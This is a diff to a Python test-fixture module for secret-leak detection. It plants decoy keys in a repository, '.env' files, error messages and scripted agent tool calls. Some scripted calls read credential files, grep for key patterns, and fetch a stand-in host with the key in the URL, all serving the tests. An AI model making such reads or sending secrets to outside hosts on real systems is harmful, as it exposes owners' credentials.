@@ -1,4 +1,4 @@
-"""Keys that must stay where they are: those in use and those of others, planted in texts, and the search for them.
+"""Keys that must stay where they are, what they are planted in, and the search for them.
 
 LIVE, SECOND, RING and GATEWAY are in use; OTHERS are those of other people. LITTER holds OTHERS and LIVE on one line,
 LINES a private key as well. `leaks(data)` names the keys that some bytes or a text hold, as they are or escaped.
@@ -11,6 +11,7 @@ import html
 import json
 import random
 import string
+import subprocess
 from collections.abc import Iterator, Mapping
 from functools import cache
 from pathlib import Path
@@ -18,8 +19,13 @@ from typing import Any
 from urllib.parse import quote, quote_plus
 
 import pandas as pd
-from scripted_http import Reply, Request
+from planning import AGREE, COUNTER, scores, script
+from scripted_http import Reply as HttpReply
+from scripted_http import Request
+from scripted_replies import Answer, calls, fetches, says, status
 from scripted_server import ScriptedServer
+
+from verifyplan.protocol.call import Reply, ToolUse
 
 LIVE = "Live'key\"<0f>\\1e&2d+3c/4b5a6978"
 """The key in use: nothing about it tells that it is one, and it is escaped differently wherever it could stand."""
@@ -58,6 +64,11 @@ LITTER = " ".join(
 LINES = f"{PEM}\n\n{LITTER}\n"
 """The same, and a private key, on lines 1 to 64."""
 
+SAID = ("concern", "failure_scenario", "alternative", "explanation", "resolution", "description", "suggested_query")
+SAID += ("relevance", "cascade", "trigger", "question")
+NOTES = f"# Orders\n\nThe orders were moved once before.\n\n{LINES}"
+REFUSED = status(401, message=f"invalid x-api-key {LIVE}; known are {LITTER}")
+
 _NAMED = {"live": LIVE, "second": SECOND, "ring": RING, "gateway": GATEWAY, "password": PASSWORD, **OTHERS} | {
     f"line {n} of the private key": line for n, line in enumerate(PEM.splitlines()[1:-1])
 }
@@ -71,14 +82,18 @@ def leaks(data: bytes | str, allowed: tuple[str, ...] = ()) -> list[str]:
 
 @cache
 def _forms() -> dict[str, list[bytes]]:
-    return {name: sorted(form.encode() for form in forms_of(key)) for name, key in _NAMED.items()}
+    return {name: sorted(form.encode() for form in escaped(key) | coded(key)) for name, key in _NAMED.items()}
 
 
-def forms_of(key: str) -> set[str]:
-    """A key as texts may hold it: as it is, in JSON, Python, HTML and URLs, and in base64 of what surrounds it."""
-    coded = {base64.b64encode(b"\0" * n + key.encode()).decode()[-(-n * 8 // 6) : -4] for n in range(3)}
-    plain = {key, json.dumps(key)[1:-1], repr(key)[1:-1], html.escape(key), html.escape(json.dumps(key)[1:-1])}
-    return plain | coded | {quote(key), quote(key, safe=""), quote_plus(key)}
+def escaped(key: str) -> set[str]:
+    """A key as texts may hold it: as it is, in JSON, Python, HTML and URLs."""
+    plain = {key, json.dumps(key)[1:-1], repr(key)[1:-1]}
+    return plain | set(map(html.escape, plain)) | {quote(key), quote(key, safe=""), quote_plus(key)}
+
+
+def coded(key: str) -> set[str]:
+    """What base64 of a text that holds the key has in common, whatever stands around it, but for its ends."""
+    return {base64.b64encode(b"\0" * n + key.encode()).decode()[-(-n * 8 // 6) : -4] for n in range(3)}
 
 
 class Listening(ScriptedServer):
@@ -88,7 +103,7 @@ class Listening(ScriptedServer):
         super().__init__(*given, **more)
         self.heard: list[Request] = []
 
-    async def answer(self, request: Request) -> Reply:
+    async def answer(self, request: Request) -> HttpReply:
         self.heard.append(request)
         return await super().answer(request)
 
@@ -112,3 +127,73 @@ def written(folder: Path) -> Iterator[tuple[str, bytes]]:
             yield name, path.read_bytes()
             if path.suffix == ".parquet":
                 yield f"cells of {name}", pd.read_parquet(path).to_csv().encode()
+
+
+def repository(folder: Path) -> Path:
+    """A repository with keys in files, in names and in the history."""
+    root = folder / "repository"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "keys.py").write_text(LINES)
+    (root / "src" / "store.py").write_text(f"lock = 1  # {LITTER}\n" * 3)
+    (root / f"{OTHERS['github']}.md").write_text("a file whose name is a key\n")
+    (root / ".env").write_text(LINES)
+    git = ["git", "-c", "user.name=n", "-c", "user.email=e@example.org", "-c", "init.defaultBranch=main"]
+    for command in (["init", "-q"], ["add", "."], ["commit", "-qm", f"Move the orders: {LITTER}"]):
+        subprocess.run([*git, *command], cwd=root, check=True, stdin=subprocess.DEVNULL)
+    return root
+
+
+def thinks(text: str) -> Answer:
+    return Answer(({"type": "thinking", "thinking": text, "signature": "c2ln"},))
+
+
+def answers() -> dict[str, Any]:
+    """The answers of a plan run that blocks, with keys in all that the agents say."""
+    said = littered(script(), *SAID) | {"i1/panel/r1/panel-3": "error", "i2/score": scores(7), "i2/audit": scores(7)}
+    said["i3/score"] = littered(scores(7), "evidence")
+    return said | {"i3/audit": littered(scores(7, risk_coverage=4), "evidence")}
+
+
+def first() -> dict[str, Answer | list[Answer]]:
+    """What models say before they answer: tools called for keys and with keys, prose, and errors that quote them."""
+    reads = calls("Read", path="src/keys.py") + calls("Read", path=LITTER) + calls("Read", path=".env")
+    odd = calls("Read", file=LITTER) + calls(f"Tool-{LIVE}", path="a") + calls("Grep", pattern=LITTER)
+    web = calls("WebSearch", query="orders", serves="U1") + calls("memory_search", query="orders moved", serves=LITTER)
+    asked = web + calls("WebFetch", url=f"https://x.example/?k={quote(LIVE, safe='')}", serves="U1")
+    return {
+        "i1/challenger/t1": thinks(LITTER)
+        + says(LINES)
+        + reads
+        + odd
+        + calls("Grep", pattern="key|BEGIN|AKIA|[a-z]{9}"),
+        "i1/challenger/t2": says(f"I found {LINES}, and give no JSON"),
+        "i1/domain-expert/t1": REFUSED,
+        "i1/panel/r1/panel-3/t1": REFUSED,
+        "i1/resolver/t1": asked,
+        "i1/resolver/t1/w1": REFUSED,
+        "i1/resolver/t1/w3": fetches("https://x.example", page=LINES, text=LINES),
+        "i1/surface/t1": calls("git_log", paths=[]) + calls("memory_search", query="orders moved"),
+    }
+
+
+class OwnBackend:
+    """A backend of somebody's own, which shows keys in all that it tells."""
+
+    def describe(self) -> dict[str, Any]:
+        return {
+            "name": "own",
+            "headers": {"x-api-key": LIVE},
+            "path": Path(f"/srv/{LIVE}"),
+            "set": {LIVE},
+            LITTER: LINES,
+        }
+
+    def check_worker(self, _: str) -> str | None:
+        return None
+
+    async def answer(self, request: Any) -> Reply:
+        if request.worker == "ann":
+            raise ValueError(f"cannot log in with {LIVE}", LITTER)
+        votes = {item.finding_id: AGREE | {"explanation": LITTER} for item in request.items} | {LITTER: COUNTER}
+        used = (ToolUse(tool="Read", argument=LITTER, refused=f"not with {LIVE}"),)
+        return Reply(value={"votes": votes}, tools=used)
